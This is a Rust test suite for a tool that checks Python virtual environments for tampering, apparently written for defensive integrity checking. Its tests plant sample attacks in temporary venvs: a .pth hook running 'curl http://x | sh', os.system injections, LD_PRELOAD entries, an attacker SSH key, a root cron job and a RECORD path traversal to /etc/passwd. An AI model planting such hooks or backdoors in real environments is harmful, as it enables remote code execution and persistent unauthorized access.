//! End-to-end checks on real virtual environments built by the test itself.
//!
//! A tiny wheel written here is installed by pip into a `--without-pip` venv once; every test
//! tampers with its own copy the way an insider would and checks that the tampering is found and
//! named. One test builds a venv with pip and setuptools exactly
//! as `python -m venv` ships them and checks that it is clean.

use std::collections::BTreeMap;
use std::path::{Path, PathBuf};
use std::process::Command;
use std::sync::OnceLock;

use tg_env::{Finding, Kind, Options, Report};

/// The interpreter the tests run: `TRAINGUARD_TEST_PYTHON`, else the workspace `.venv`.
fn python() -> PathBuf {
    if let Some(p) = std::env::var_os("TRAINGUARD_TEST_PYTHON") {
        return PathBuf::from(p);
    }
    let venv = Path::new(env!("CARGO_MANIFEST_DIR")).join("../../.venv/bin/python");
    assert!(
        venv.exists(),
        "no Python for the tests: set TRAINGUARD_TEST_PYTHON or run scripts/test (it creates .venv)"
    );
    venv
}

fn run(cmd: &mut Command) {
    let out = cmd.output().unwrap_or_else(|e| panic!("{cmd:?}: {e}"));
    assert!(
        out.status.success(),
        "{cmd:?} failed: {}\n{}",
        String::from_utf8_lossy(&out.stdout),
        String::from_utf8_lossy(&out.stderr)
    );
}

/// The cache tag of the test interpreter (`cpython-311`), as in `__pycache__` file names.
fn tag() -> &'static str {
    static TAG: OnceLock<String> = OnceLock::new();
    TAG.get_or_init(|| {
        let out = Command::new(python())
            .args(["-c", "import sys; print(sys.implementation.cache_tag)"])
            .output()
            .unwrap();
        String::from_utf8(out.stdout).unwrap().trim().to_owned()
    })
}

/// `__pycache__/<stem>.<tag>.pyc`.
fn pyc(stem: &str) -> String {
    format!("__pycache__/{stem}.{}.pyc", tag())
}

const MKWHEEL: &str = r#"
import base64, hashlib, sys, zipfile
files = {
    "tinypkg/__init__.py": "from .core import answer\n",
    "tinypkg/core.py": "def answer():\n    return 42\n\ndef main():\n    print(answer())\n",
    "tinypkg/sub/__init__.py": "",
    "tinypkg-1.0.dist-info/METADATA": "Metadata-Version: 2.1\nName: tinypkg\nVersion: 1.0\n",
    "tinypkg-1.0.dist-info/WHEEL": "Wheel-Version: 1.0\nGenerator: trainguard-tests\nRoot-Is-Purelib: true\nTag: py3-none-any\n",
    "tinypkg-1.0.dist-info/entry_points.txt": "[console_scripts]\ntiny = tinypkg.core:main\n",
}
record = []
with zipfile.ZipFile(sys.argv[1], "w") as z:
    for name, text in files.items():
        data = text.encode()
        z.writestr(name, data)
        digest = base64.urlsafe_b64encode(hashlib.sha256(data).digest()).rstrip(b"=").decode()
        record.append(f"{name},sha256={digest},{len(data)}")
    record.append("tinypkg-1.0.dist-info/RECORD,,")
    z.writestr("tinypkg-1.0.dist-info/RECORD", "\n".join(record) + "\n")
"#;

/// A tiny pure-Python wheel (`tinypkg 1.0`, a console script `tiny`), built once.
fn wheel() -> &'static Path {
    static WHEEL: OnceLock<(tempfile::TempDir, PathBuf)> = OnceLock::new();
    &WHEEL
        .get_or_init(|| {
            let dir = tempfile::tempdir().unwrap();
            let whl = dir.path().join("tinypkg-1.0-py3-none-any.whl");
            run(Command::new(python()).args(["-c", MKWHEEL]).arg(&whl));
            (dir, whl)
        })
        .1
}

/// A venv with `tinypkg` installed, private to one test.
struct Venv {
    _dir: tempfile::TempDir,
    root: PathBuf,
    home: PathBuf,
    system: PathBuf,
}

/// The venv every tampering test starts from, built once: `--without-pip`, then `tinypkg`
/// installed (and byte-compiled) by the test interpreter's pip.
fn template() -> &'static Path {
    static TEMPLATE: OnceLock<(tempfile::TempDir, PathBuf)> = OnceLock::new();
    &TEMPLATE
        .get_or_init(|| {
            let dir = tempfile::tempdir().unwrap();
            let root = dir.path().join("venv");
            run(Command::new(python())
                .args(["-m", "venv", "--without-pip"])
                .arg(&root));
            run(Command::new(python())
                .args(["-m", "pip", "--disable-pip-version-check", "--python"])
                .arg(root.join("bin/python"))
                .args(["install", "-q", "--no-index", "--no-deps", "--no-cache-dir"])
                .arg(wheel()));
            (dir, root)
        })
        .1
}

/// Copy a tree, recreating symlinks and keeping mtimes (the .pyc headers record them).
fn copy_tree(from: &Path, to: &Path) {
    fs_err::create_dir_all(to).unwrap();
    for entry in fs_err::read_dir(from).unwrap() {
        let entry = entry.unwrap();
        let (src, dst) = (entry.path(), to.join(entry.file_name()));
        let ft = entry.file_type().unwrap();
        if ft.is_symlink() {
            fs_err::os::unix::fs::symlink(fs_err::read_link(&src).unwrap(), &dst).unwrap();
        } else if ft.is_dir() {
            copy_tree(&src, &dst);
        } else {
            fs_err::copy(&src, &dst).unwrap();
            let mtime = fs_err::metadata(&src).unwrap().modified().unwrap();
            fs_err::File::options()
                .write(true)
                .open(&dst)
                .unwrap()
                .set_modified(mtime)
                .unwrap();
        }
    }
}

impl Venv {
    /// A private copy of [`template`], with an empty home and an empty /etc.
    fn new() -> Self {
        let dir = tempfile::tempdir().unwrap();
        let root = dir.path().join("venv");
        copy_tree(template(), &root);
        let home = dir.path().join("home");
        let system = dir.path().join("system");
        fs_err::create_dir_all(home.join(".ssh")).unwrap();
        fs_err::create_dir_all(system.join("etc/cron.d")).unwrap();
        fs_err::write(
            system.join("etc/crontab"),
            "# m h dom mon dow user command\n",
        )
        .unwrap();
        Venv {
            _dir: dir,
            root,
            home,
            system,
        }
    }

    fn python(&self) -> PathBuf {
        self.root.join("bin/python")
    }

    fn site(&self) -> PathBuf {
        let lib = self.root.join("lib");
        let py = fs_err::read_dir(&lib)
            .unwrap()
            .filter_map(Result::ok)
            .find(|e| e.file_name().to_string_lossy().starts_with("python"))
            .expect("lib/pythonX.Y");
        py.path().join("site-packages")
    }

    /// Options isolated from this machine: no variables, its own home and /etc.
    fn options(&self) -> Options {
        let mut opts = Options::new(self.python());
        opts.env = BTreeMap::new();
        opts.home = Some(self.home.clone());
        opts.system_root = self.system.clone();
        opts
    }

    fn verify(&self) -> Report {
        tg_env::verify(&self.options()).expect("verify")
    }
}

fn find<'a>(report: &'a Report, kind: Kind, path_end: &str) -> &'a Finding {
    report
        .findings
        .iter()
        .find(|f| f.kind == kind && f.path.ends_with(path_end))
        .unwrap_or_else(|| panic!("no {kind} finding for {path_end}: {:#?}", report.findings))
}

#[test]
fn installed_venv_is_clean() {
    let v = Venv::new();
    let report = v.verify();
    assert_eq!(
        report.findings,
        vec![],
        "a freshly installed venv has no findings"
    );
    assert_eq!(report.distributions, 1);
    // Every file pip wrote with a hash was hashed, the console script in bin/ included.
    assert!(report.files_hashed >= 9, "{report:#?}");
    assert_eq!(report.exit_code(), 0);
}

#[test]
fn python_m_venv_as_shipped_is_clean() {
    let dir = tempfile::tempdir().unwrap();
    let root = dir.path().join("venv");
    run(Command::new(python()).args(["-m", "venv"]).arg(&root));
    let mut opts = Options::new(root.join("bin/python"));
    opts.env = BTreeMap::new();
    opts.home = Some(dir.path().join("home"));
    opts.system_root = dir.path().join("system");
    let report = tg_env::verify(&opts).unwrap();
    assert_eq!(report.findings, vec![], "pip and setuptools as shipped");
    assert!(report.distributions >= 1);
    assert!(report.files_hashed > 100, "{}", report.files_hashed);
    // setuptools (when shipped, before Python 3.12) brings distutils-precedence.pth: accepted,
    // by name and exact content.
    for a in &report.accepted {
        assert!(a.path.ends_with("distutils-precedence.pth"), "{a:?}");
    }
}

#[test]
fn edited_package_source_is_named_with_its_distribution() {
    let v = Venv::new();
    let core = v.site().join("tinypkg/core.py");
    let original = fs_err::read_to_string(&core).unwrap();
    let mtime = fs_err::metadata(&core).unwrap().modified().unwrap();
    // The sneaky edit: same size, mtime put back, so the .pyc header still matches.
    let edited = original.replace("return 42", "return 24");
    assert_eq!(edited.len(), original.len());
    fs_err::write(&core, &edited).unwrap();
    fs_err::File::options()
        .write(true)
        .open(&core)
        .unwrap()
        .set_modified(mtime)
        .unwrap();
    let report = v.verify();
    let f = find(&report, Kind::ModifiedFile, "site-packages/tinypkg/core.py");
    assert_eq!(f.distribution.as_deref(), Some("tinypkg 1.0"));
    assert_eq!(f.rule, "TG-ENV-001");
    assert_eq!(report.findings.len(), 1, "{:#?}", report.findings);
    assert_eq!(report.exit_code(), 1);
}

#[test]
fn plain_edit_also_leaves_a_stale_pyc_and_a_deleted_file_is_missing() {
    let v = Venv::new();
    let site = v.site();
    fs_err::write(site.join("tinypkg/core.py"), "import os\nos.system('id')\n").unwrap();
    fs_err::remove_file(site.join("tinypkg/sub/__init__.py")).unwrap();
    let script = v.root.join("bin/tiny");
    let mut text = fs_err::read_to_string(&script).unwrap();
    text.push_str("__import__('os').system('id')\n");
    fs_err::write(&script, text).unwrap();
    let report = v.verify();
    find(&report, Kind::ModifiedFile, "tinypkg/core.py");
    find(
        &report,
        Kind::PycMismatch,
        &format!("tinypkg/{}", pyc("core")),
    );
    let missing = find(&report, Kind::MissingFile, "tinypkg/sub/__init__.py");
    assert_eq!(missing.distribution.as_deref(), Some("tinypkg 1.0"));
    // The console script is outside site-packages (`../../../bin/tiny` in RECORD).
    find(&report, Kind::ModifiedFile, "bin/tiny");
}

#[test]
fn pth_hook_with_code_is_reported_with_its_line() {
    let v = Venv::new();
    let line = "import os; os.system('curl http://x | sh')";
    fs_err::write(
        v.site().join("zz_evil.pth"),
        format!("# looks harmless\n{line}\n"),
    )
    .unwrap();
    let report = v.verify();
    let f = find(&report, Kind::PthCode, "zz_evil.pth");
    assert_eq!(f.evidence.as_deref(), Some(line));
    find(&report, Kind::UnrecordedFile, "zz_evil.pth");
    // A hook in a RECORD is still a hook (the litellm 1.82.8 case): the allowlist decides.
    assert!(report.accepted.is_empty());
}

#[test]
fn carriage_return_cannot_hide_an_import_line() {
    let v = Venv::new();
    fs_err::write(v.site().join("paths.pth"), "# comment\rimport os\n").unwrap();
    let report = v.verify();
    let f = find(&report, Kind::PthCode, "paths.pth");
    assert_eq!(f.evidence.as_deref(), Some("import os"));
}

#[test]
fn dropped_in_modules_and_packages_are_unrecorded() {
    let v = Venv::new();
    let site = v.site();
    fs_err::write(site.join("tinypkg/backdoor.py"), "import os\n").unwrap();
    fs_err::write(
        site.join("tinypkg/sub/_ext.cpython-311-x86_64-linux-gnu.so"),
        b"\x7fELF",
    )
    .unwrap();
    fs_err::write(
        site.join("tinypkg/notes.txt"),
        "data files are not importable",
    )
    .unwrap();
    fs_err::create_dir_all(site.join("evilpkg")).unwrap();
    fs_err::write(site.join("evilpkg/__init__.py"), "").unwrap();
    fs_err::write(site.join("toplevel_evil.py"), "").unwrap();
    // A sourceless module beside the sources (not in __pycache__) is importable.
    fs_err::copy(
        site.join(format!("tinypkg/{}", pyc("core"))),
        site.join("tinypkg/legacy.pyc"),
    )
    .unwrap();
    let report = v.verify();
    let f = find(&report, Kind::UnrecordedFile, "tinypkg/backdoor.py");
    assert_eq!(f.distribution.as_deref(), Some("tinypkg 1.0"));
    find(
        &report,
        Kind::UnrecordedFile,
        "tinypkg/sub/_ext.cpython-311-x86_64-linux-gnu.so",
    );
    find(&report, Kind::UnrecordedFile, "site-packages/evilpkg");
    find(
        &report,
        Kind::UnrecordedFile,
        "site-packages/toplevel_evil.py",
    );
    assert!(
        !report
            .findings
            .iter()
            .any(|f| f.path.ends_with("notes.txt")),
        "{:#?}",
        report.findings
    );
    find(&report, Kind::UnrecordedFile, "tinypkg/legacy.pyc");
    // A directory symlink is not followed, and is itself reported.
    fs_err::os::unix::fs::symlink(v.home.as_path(), site.join("tinypkg/linked")).unwrap();
    let report = v.verify();
    let link = find(&report, Kind::UnrecordedFile, "tinypkg/linked");
    assert_eq!(link.evidence.as_deref(), Some(v.home.to_str().unwrap()));
    assert_eq!(report.findings.len(), 6, "{:#?}", report.findings);
}

#[test]
fn sitecustomize_and_start_files_are_hooks() {
    let v = Venv::new();
    fs_err::write(v.site().join("sitecustomize.py"), "import os\n").unwrap();
    fs_err::write(
        v.site().join("tinypkg.start"),
        "# PEP 829\ntinypkg.core:main\n",
    )
    .unwrap();
    let report = v.verify();
    find(
        &report,
        Kind::CustomizeModule,
        "site-packages/sitecustomize.py",
    );
    let f = find(&report, Kind::StartupEntryPoint, "tinypkg.start");
    assert_eq!(f.evidence.as_deref(), Some("tinypkg.core:main"));
}

#[test]
fn sourceless_and_unchecked_pycs_are_reported() {
    let v = Venv::new();
    let site = v.site();
    let cache = site.join("tinypkg/__pycache__");
    fs_err::copy(
        cache.join(format!("core.{}.pyc", tag())),
        cache.join(format!("gone.{}.pyc", tag())),
    )
    .unwrap();
    // Recompile `__init__` as an unchecked hash-based pyc (PEP 552).
    let script = "import py_compile, sys; py_compile.compile(sys.argv[1], cfile=sys.argv[2], invalidation_mode=py_compile.PycInvalidationMode.UNCHECKED_HASH)";
    run(Command::new(v.python())
        .args(["-c", script])
        .arg(site.join("tinypkg/__init__.py"))
        .arg(cache.join(format!("__init__.{}.pyc", tag()))));
    let report = v.verify();
    find(&report, Kind::OrphanPyc, &format!("gone.{}.pyc", tag()));
    find(
        &report,
        Kind::UncheckedPyc,
        &format!("tinypkg/{}", pyc("__init__")),
    );
    assert_eq!(report.findings.len(), 2, "{:#?}", report.findings);
}

#[test]
fn record_paths_escaping_the_prefix_are_refused() {
    let v = Venv::new();
    let record = v.site().join("tinypkg-1.0.dist-info/RECORD");
    let mut text = fs_err::read_to_string(&record).unwrap();
    text.push_str("../../../../../../../../etc/passwd,sha256=AAAA,1\n");
    fs_err::write(&record, text).unwrap();
    let report = v.verify();
    let f = find(
        &report,
        Kind::RecordPathEscapes,
        "tinypkg-1.0.dist-info/RECORD",
    );
    assert!(f.evidence.as_deref().unwrap().contains("etc/passwd"));
    // The escaping entry was not read: the only finding is the refusal.
    assert_eq!(report.findings.len(), 1, "{:#?}", report.findings);
}

#[test]
fn environment_variables_and_ld_so_preload() {
    let v = Venv::new();
    let mut opts = v.options();
    opts.env.insert("LD_PRELOAD".into(), "/tmp/x.so".into());
    opts.env
        .insert("PYTHONPATH".into(), v.home.display().to_string());
    opts.env
        .insert("PYTHONWARNINGS".into(), "ignore::evil.Warning".into());
    opts.env
        .insert("PYTHONDONTWRITEBYTECODE".into(), "1".into());
    fs_err::write(v.home.join("usercustomize.py"), "").unwrap();
    fs_err::write(v.system.join("etc/ld.so.preload"), "/lib/libevil.so\n").unwrap();
    let report = tg_env::verify(&opts).unwrap();
    find(&report, Kind::EnvironmentVariable, "LD_PRELOAD");
    find(&report, Kind::EnvironmentVariable, "PYTHONPATH");
    find(&report, Kind::EnvironmentVariable, "PYTHONWARNINGS");
    // A customize module reached through PYTHONPATH.
    find(&report, Kind::CustomizeModule, "home/usercustomize.py");
    let f = find(&report, Kind::LdPreload, "etc/ld.so.preload");
    assert_eq!(f.evidence.as_deref(), Some("/lib/libevil.so"));
    assert_eq!(report.findings.len(), 5, "{:#?}", report.findings);
}

#[test]
fn baseline_names_added_removed_changed_files_and_new_keys() {
    let v = Venv::new();
    let keys = v.home.join(".ssh/authorized_keys");
    fs_err::write(&keys, "ssh-ed25519 AAAAC3Nza alice@laptop\n").unwrap();
    let (baseline, report) = tg_env::snapshot(&v.options()).unwrap();
    assert_eq!(report.findings, vec![]);
    let out = v.home.join("baseline.json");
    baseline.write(&out).unwrap();

    // Untouched: comparing with the baseline finds nothing.
    let mut opts = v.options();
    opts.baseline = Some(tg_env::Baseline::load(&out).unwrap());
    assert_eq!(tg_env::verify(&opts).unwrap().findings, vec![]);

    let site = v.site();
    // A .pyc changed in place (header kept): invisible to RECORD, caught by the baseline.
    let compiled = site.join(format!("tinypkg/{}", pyc("core")));
    let mut bytes = fs_err::read(&compiled).unwrap();
    let last = bytes.len() - 1;
    bytes[last] ^= 1;
    fs_err::write(&compiled, bytes).unwrap();
    fs_err::remove_file(site.join("tinypkg-1.0.dist-info/REQUESTED")).unwrap();
    fs_err::write(site.join("tinypkg/data.bin"), b"new").unwrap();
    let backdoor = "ssh-ed25519 AAAAC3NzaEVIL mallory@cluster";
    fs_err::write(
        &keys,
        format!("ssh-ed25519 AAAAC3Nza alice@laptop\n{backdoor}\n"),
    )
    .unwrap();
    fs_err::write(
        v.system.join("etc/cron.d/job"),
        "* * * * * root sh /tmp/x\n",
    )
    .unwrap();

    let report = tg_env::verify(&opts).unwrap();
    assert!(report.baseline_compared);
    find(
        &report,
        Kind::BaselineChanged,
        &format!("tinypkg/{}", pyc("core")),
    );
    find(
        &report,
        Kind::BaselineRemoved,
        "tinypkg-1.0.dist-info/REQUESTED",
    );
    find(&report, Kind::BaselineAdded, "tinypkg/data.bin");
    let k = find(&report, Kind::BaselineChanged, ".ssh/authorized_keys");
    assert_eq!(
        k.evidence.as_deref(),
        Some(format!("+ {backdoor}").as_str())
    );
    let c = find(&report, Kind::BaselineAdded, "etc/cron.d/job");
    assert_eq!(c.evidence.as_deref(), Some("+ * * * * * root sh /tmp/x"));
    // Without the baseline, RECORD alone sees the removal but not the pyc or the keys.
    let plain = v.verify();
    find(&plain, Kind::MissingFile, "tinypkg-1.0.dist-info/REQUESTED");
    assert!(!plain.findings.iter().any(|f| f.path.ends_with(".pyc")));
}

#[test]
fn known_hooks_are_accepted_only_in_their_exact_form() {
    let v = Venv::new();
    let site = v.site();
    // setuptools' nspkg line for `google`, as `Installer._gen_nspkg_line` writes it.
    let nspkg = "import sys, types, os;has_mfs = sys.version_info > (3, 5);p = os.path.join(sys._getframe(1).f_locals['sitedir'], *('google',));importlib = has_mfs and __import__('importlib.util');has_mfs and __import__('importlib.machinery');m = has_mfs and sys.modules.setdefault('google', importlib.util.module_from_spec(importlib.machinery.PathFinder.find_spec('google', [os.path.dirname(p)])));m = m or sys.modules.setdefault('google', types.ModuleType('google'));mp = (m or []) and m.__dict__.setdefault('__path__',[]);(p not in mp) and mp.append(p)";
    fs_err::write(
        site.join("protobuf-3.20.3-py3.11-nspkg.pth"),
        format!("{nspkg}\n"),
    )
    .unwrap();
    fs_err::write(
        site.join("googleapis-1.0-py3.11-nspkg.pth"),
        format!("{nspkg};import os\n"),
    )
    .unwrap();
    let report = v.verify();
    assert!(
        report
            .accepted
            .iter()
            .any(|a| a.path.ends_with("protobuf-3.20.3-py3.11-nspkg.pth")),
        "{:#?}",
        report.accepted
    );
    find(&report, Kind::PthCode, "googleapis-1.0-py3.11-nspkg.pth");
    assert!(
        !report
            .findings
            .iter()
            .any(|f| f.kind == Kind::PthCode && f.path.contains("protobuf")),
        "{:#?}",
        report.findings
    );
}

#[test]
fn a_missing_interpreter_is_an_error_naming_it() {
    let err = tg_env::verify(&Options::new("/nonexistent/bin/python")).unwrap_err();
    assert_eq!(
        err.to_string(),
        "cannot run python interpreter /nonexistent/bin/python"
    );
}

#[test]
fn a_path_two_distributions_install_is_a_note_not_a_finding() {
    let v = Venv::new();
    let site = v.site();
    let core = site.join("tinypkg/core.py");
    let theirs = "def answer():\n    return 'from otherpkg'\n";
    fs_err::write(&core, theirs).unwrap();
    // The second installer recompiles, as pip does.
    run(Command::new(v.python())
        .args([
            "-c",
            "import py_compile, sys; py_compile.compile(sys.argv[1])",
        ])
        .arg(&core));
    let digest = {
        use base64::Engine;
        use sha2::Digest;
        base64::engine::general_purpose::URL_SAFE_NO_PAD.encode(sha2::Sha256::digest(theirs))
    };
    let info = site.join("otherpkg-2.0.dist-info");
    fs_err::create_dir_all(&info).unwrap();
    fs_err::write(
        info.join("RECORD"),
        format!(
            "tinypkg/core.py,sha256={digest},{}\notherpkg-2.0.dist-info/RECORD,,\n",
            theirs.len()
        ),
    )
    .unwrap();
    let report = v.verify();
    assert_eq!(
        report.findings,
        vec![],
        "authentic content from another wheel"
    );
    assert_eq!(report.notes.len(), 1, "{:#?}", report.notes);
    assert_eq!(report.notes[0].kind, Kind::Overwritten);
    assert_eq!(report.notes[0].distribution.as_deref(), Some("tinypkg 1.0"));
    assert!(report.notes[0].message.contains("otherpkg 2.0"));

    // Content that matches neither record is still a modification.
    fs_err::write(&core, "def answer():\n    return 'mallory'\n").unwrap();
    let report = v.verify();
    find(&report, Kind::ModifiedFile, "tinypkg/core.py");
}

#[test]
fn a_wheel_shipped_pyc_rewritten_by_the_interpreter_is_not_a_finding() {
    let v = Venv::new();
    let site = v.site();
    let compiled = format!("tinypkg/{}", pyc("core"));
    // RECORD lists the .pyc with a hash (the wheel shipped it); the file on disk is the one the
    // interpreter wrote for the source, so the hash differs but the header ties it to the source.
    let record = site.join("tinypkg-1.0.dist-info/RECORD");
    let text = fs_err::read_to_string(&record).unwrap().replace(
        &format!("{compiled},,"),
        &format!("{compiled},sha256=47DEQpj8HBSa-_TImW-5JCeuQeRkm5NMpJWZG3hSuFU,0"),
    );
    fs_err::write(&record, text).unwrap();
    assert_eq!(v.verify().findings, vec![]);
    // A pyc that does not match its source gets no such pass.
    let mut bytes = fs_err::read(site.join(&compiled)).unwrap();
    bytes[8] ^= 1; // the recorded source mtime
    fs_err::write(site.join(&compiled), bytes).unwrap();
    let report = v.verify();
    find(&report, Kind::ModifiedFile, &compiled);
    find(&report, Kind::PycMismatch, &compiled);
}
